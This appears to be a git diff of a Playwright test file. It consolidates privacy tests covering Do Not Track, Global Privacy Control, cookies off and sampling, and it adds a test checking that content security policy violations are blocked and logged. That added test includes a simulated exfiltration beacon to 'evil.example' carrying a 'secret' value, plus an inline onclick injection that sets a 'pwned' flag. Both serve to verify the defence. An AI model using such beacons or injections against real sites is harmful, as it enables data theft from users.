@@ -1,4 +1,4 @@
-import type { Page } from 'playwright/test'
+import { test as plainTest, type Page } from 'playwright/test'
 import { hydrated, expect, test } from '../support/browser-test.ts'
 import { getFreePort } from '../support/loopback.ts'
 import { startSiteProcess, type SiteProcess } from '../support/site-process.ts'
@@ -94,59 +94,60 @@ test('a page reports once, as the kind of page it was when it was loaded, and no
   })
 })
 
-for (const [who, property, value] of [
-  ['Global Privacy Control on', 'globalPrivacyControl', true],
-  ['Do Not Track on', 'doNotTrack', '1'],
-] as const) {
-  test(`a visitor with ${who} is not measured`, async ({ page }) => {
+test('a visitor with Global Privacy Control, Do Not Track or no cookies is not measured, nor one that the sample does not choose', async ({
+  context,
+}) => {
+  for (const [property, value] of [
+    ['globalPrivacyControl', true],
+    ['doNotTrack', '1'],
+    ['cookieEnabled', false],
+    ['random', 1 - Number.EPSILON],
+  ] as const) {
+    const page = await context.newPage()
     await page.addInitScript(
-      ([name, now]) =>
-        Object.defineProperty(Navigator.prototype, name, { get: () => now, configurable: true }),
+      ([name, now]) => {
+        if (name === 'random') Math.random = () => Number(now)
+        else
+          Object.defineProperty(Navigator.prototype, name, { get: () => now, configurable: true })
+      },
       [property, value] as const,
     )
     const requests = watchTimings(page)
+    await page.route(`${site.url}/about`, async (route) => {
+      const response = await route.fetch()
+      const body = (await response.text()).replace(
+        'data-timing-sample="1"',
+        `data-timing-sample="${property === 'random' ? '.9' : '1'}"`,
+      )
+      await route.fulfill({ response, body })
+    })
     await page.goto(`${site.url}/about`)
-    await idle(page)
+    // Without cookies nothing of the page's script runs.
+    if (property !== 'cookieEnabled') await idle(page)
     await page.goto('about:blank')
-    expect(requests).toEqual([])
-  })
-}
-
-test('a visitor without cookies is not measured', async ({ page }) => {
-  await page.addInitScript(() =>
-    Object.defineProperty(Navigator.prototype, 'cookieEnabled', { get: () => false }),
-  )
-  const requests = watchTimings(page)
-  await page.goto(`${site.url}/about`, { waitUntil: 'networkidle' })
-  await page.goto('about:blank')
-  expect(requests).toEqual([])
+    expect(requests, property).toEqual([])
+    await page.close()
+  }
 })
 
-test.describe('with script off', () => {
-  test.use({ javaScriptEnabled: false })
-
-  test('a visitor is not measured', async ({ page }) => {
-    const requests = watchTimings(page)
-    await page.goto(`${site.url}/about`, { waitUntil: 'networkidle' })
-    await page.goto('about:blank')
-    expect(requests).toEqual([])
-  })
-})
-
-test('a page that the sample does not choose loads no script to measure it', async ({ page }) => {
-  await page.addInitScript(() => {
-    Math.random = () => 1 - Number.EPSILON
-  })
-  const requests = watchTimings(page)
-  await page.route(`${site.url}/about`, async (route) => {
-    const response = await route.fetch()
-    const body = (await response.text()).replace(
-      'data-timing-sample="1"',
-      'data-timing-sample=".9"',
-    )
-    await route.fulfill({ response, body })
-  })
-  await page.goto(`${site.url}/about`)
-  await idle(page)
-  expect(requests).toEqual([])
-})
+// Violations are errors in the console.
+plainTest(
+  'V19: content security policy violations are logged for the operator',
+  async ({ page }) => {
+    await page.goto(`${site.url}/News?lang=En`)
+    await page.evaluate(() => {
+      const image = new Image()
+      image.src = 'https://evil.example/x.png?name=secret'
+      const text = document.createElement('p')
+      text.setAttribute('onclick', 'window.__pwned = 1')
+      document.body.append(image, text)
+      text.click()
+    })
+    await expect.poll(() => site.output()).toContain('"blocked":"https://evil.example/x.png"')
+    await expect
+      .poll(() => site.output())
+      .toMatch(/"directive":"script-src-attr","page":"[^"]*\/News"/)
+    expect(site.output()).not.toContain('secret')
+    expect(await page.evaluate(() => Reflect.has(window, '__pwned'))).toBe(false)
+  },
+)
